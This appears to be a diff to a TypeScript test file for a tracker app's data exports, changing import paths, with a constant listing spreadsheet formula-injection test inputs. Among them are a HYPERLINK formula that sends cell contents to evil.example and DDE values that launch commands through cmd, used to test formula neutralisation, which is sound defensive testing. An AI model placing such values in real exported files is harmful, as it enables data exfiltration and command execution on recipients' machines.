@@ -10,8 +10,8 @@ import { GET as jsonGET } from "@/app/export/statements.json/route";
 import { GET as claimsGET } from "@/app/export/claims.jsonld/route";
 import { GET as atomGET } from "@/app/feeds/statements.atom/route";
 import { db } from "@/lib/db/client";
-import { neutraliseFormula, recoverCell } from "./csv";
-import { bodyText, seedOpenDataFixture } from "./testing";
+import { neutraliseFormula, recoverCell } from "@/lib/export/csv";
+import { bodyText, seedOpenDataFixture } from "@/lib/export/testing";
 
 const ORIGIN = "http://tracker.test";
 const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "'=already quoted"];
